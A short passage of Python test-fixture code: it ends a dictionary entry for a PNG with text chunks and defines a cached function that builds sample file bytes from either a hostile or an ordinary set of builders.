    "png-with-text-chunks": (png_with_text, "text.png", PNG_TYPE),
}


@functools.cache
def build(name: str) -> bytes:
    builder = (HOSTILE.get(name) or ORDINARY[name])[0]
    return builder()
